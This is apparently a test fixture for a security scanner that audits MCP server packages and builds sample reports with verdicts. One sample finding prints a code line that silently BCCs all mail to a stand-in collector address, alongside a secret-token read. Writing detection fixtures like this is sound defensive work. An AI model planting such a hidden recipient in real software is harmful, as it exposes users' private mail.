/** A report with one server of every verdict, as the audit makes it. */
import {
  type Fact,
  type FactKind,
  type Finding,
  known,
  type Launch,
  NOTHING_ON_MACHINE,
  type PackageRef,
  type Release,
  type Report,
  type ServerReport,
  unknown,
} from '../../src/model.js'

export const release = (name: string, version: string): Release => ({
  purl: `pkg:npm/${name}@${version}`,
  name,
  version,
  integrity: known('sha512-AAAA'),
  tarball: 'http://127.0.0.1:1/x.tgz',
  publishedAt: known('2025-09-17T10:00:00.000Z'),
  publisher: unknown('the registry does not say'),
  maintainers: unknown('the registry does not say'),
  provenance: unknown('the registry does not say'),
  deprecated: null,
  manifest: {},
})

export const fact = (kind: FactKind, value: string, detail: Fact['detail'] = {}, file = 'index.js'): Fact => ({
  kind,
  value,
  detail,
  where: { file, line: 12, column: 3, excerpt: `use(${JSON.stringify(value)})` },
  reach: 'runs',
})

const ref = (name: string, spec = name): PackageRef => ({
  ecosystem: 'npm',
  name,
  spec,
  selector: { type: 'range', value: '*' },
  floating: spec === name,
  token: { file: '/home/u/.cursor/mcp.json', pointer: '/mcpServers/mail/args/1', start: 0, end: spec.length },
})

const launch = (packages: readonly PackageRef[]): Launch => ({
  kind: 'npm',
  runner: 'npx',
  wrappers: [],
  packages,
  origin: null,
})

export const finding = (overrides: Partial<Finding> = {}): Finding => ({
  fingerprint: 'f00d',
  heuristic: 'new-recipient',
  severity: 'critical',
  confidence: 'high',
  server: 'npm:mail-mcp',
  subject: 'pkg:npm/mail-mcp@1.0.16',
  title: 'messages go to a recipient that the code names',
  message: 'every message now also goes to `collect@elsewhere.example` (bcc)',
  evidence: [{ file: 'index.js', line: 231, column: 7, excerpt: "Bcc: 'collect@elsewhere.example'," }],
  facts: [{ kind: 'message.recipient', value: 'bcc collect@elsewhere.example' }],
  remedy: 'Do not run this release. Pin 1.0.15 and treat all mail sent since as read by others.',
  since: { version: '1.0.16', date: '2025-09-17', releasesBefore: 16 },
  ...overrides,
})

const server = (overrides: Partial<ServerReport>): ServerReport => ({
  id: 'npm:mail-mcp',
  name: 'mail',
  occurrences: [
    { client: 'cursor', scope: 'user', file: '/home/u/.cursor/mcp.json', pointer: '/mcpServers/mail', disabled: false },
  ],
  launch: launch([ref('mail-mcp')]),
  package: ref('mail-mcp'),
  release: release('mail-mcp', '1.0.16'),
  onMachine: NOTHING_ON_MACHINE,
  baseline: { from: 'previous', release: release('mail-mcp', '1.0.15') },
  score: { value: 100, grade: 'A', verdict: 'trust', contributions: [] },
  change: { added: [], removed: [] },
  facts: [],
  findings: [],
  repository: unknown('no network'),
  dependencies: null,
  configured: [],
  ...overrides,
})

const recipient = fact('message.recipient', 'bcc collect@elsewhere.example', {
  slot: 'bcc',
  address: 'collect@elsewhere.example',
})

export const blocked = server({
  score: {
    value: 12,
    grade: 'F',
    verdict: 'block',
    contributions: [
      { line: 'change', reason: 'new recipient in a message', points: -80 },
      { line: 'reach', reason: 'reads a secret', points: -3 },
      { line: 'publisher', reason: 'no provenance', points: -5 },
      { line: 'publisher', reason: 'has a licence', points: 0 },
    ],
  },
  change: { added: [recipient], removed: [fact('net.host', 'old.example', { ofCall: true })] },
  facts: [
    fact('env.read', 'MAIL_TOKEN', { secret: true }),
    recipient,
    fact('net.host', 'api.mail.example', { ofCall: true }),
    fact('process.spawn', 'git clone {}', { command: 'git clone {}' }),
  ],
  findings: [
    finding(),
    finding({
      fingerprint: 'beef',
      heuristic: 'long-evidence',
      severity: 'medium',
      confidence: 'low',
      title: 'something in several places',
      evidence: [1, 2, 3, 4, 5].map((line) => ({
        file: 'dist/server/transport/index.js',
        line,
        column: 1,
        excerpt: `client.request({ url: base + '/v1/messages', headers: { authorization: token }, body: JSON.stringify(${line}) })`,
      })),
      since: { version: '0.1.0', date: null, releasesBefore: 0 },
    }),
    finding({ fingerprint: 'cafe', heuristic: 'new-tool', severity: 'info', message: 'offers a new tool: send_later' }),
  ],
})

export const trusted = server({ id: 'npm:notes-mcp', name: 'notes', package: ref('notes-mcp', 'notes-mcp@2.0.0') })

export const remote = server({
  id: 'remote:https://mcp.example',
  name: 'hosted',
  launch: { kind: 'remote', runner: 'http', wrappers: [], packages: [], origin: 'https://mcp.example' },
  package: null,
  release: null,
  baseline: { from: 'none', release: null },
  score: { value: null, grade: null, verdict: 'unknown', contributions: [] },
  facts: null,
})

export const report: Report = {
  command: 'scan',
  conclusion: 'incomplete',
  servers: [blocked, remote, trusted],
  failures: [
    {
      stage: 'resolve',
      subject: 'npm:gone-mcp',
      message: 'is not in the registry (404)',
      remedy: 'Check the name in /home/u/.cursor/mcp.json.',
    },
  ],
  notEvaluated: [
    { subject: 'remote:https://mcp.example', what: 'code', why: 'it runs on a server of its vendor' },
    {
      subject: '/home/u/.cursor/mcp.json#/servers',
      what: 'whether Cursor starts these servers',
      why: 'they stand under `servers`, and it reads `mcpServers`',
    },
    ...['npm:mail-mcp', 'npm:notes-mcp', 'npm:c', 'npm:d'].map((subject) => ({
      subject,
      what: 'repository',
      why: 'offline',
    })),
  ],
  searched: [{ client: 'cursor', scope: 'user', file: '/home/u/.cursor/mcp.json', found: 'servers', entries: 1 }],
}

export const empty: Report = {
  command: 'scan',
  conclusion: 'pass',
  servers: [],
  failures: [],
  notEvaluated: [],
  searched: [
    { client: 'cursor', scope: 'user', file: '/home/u/.cursor/mcp.json', found: 'absent', entries: 0 },
    { client: 'vscode', scope: 'user', file: '/home/u/.config/Code/User/mcp.json', found: 'no servers', entries: 0 },
  ],
}
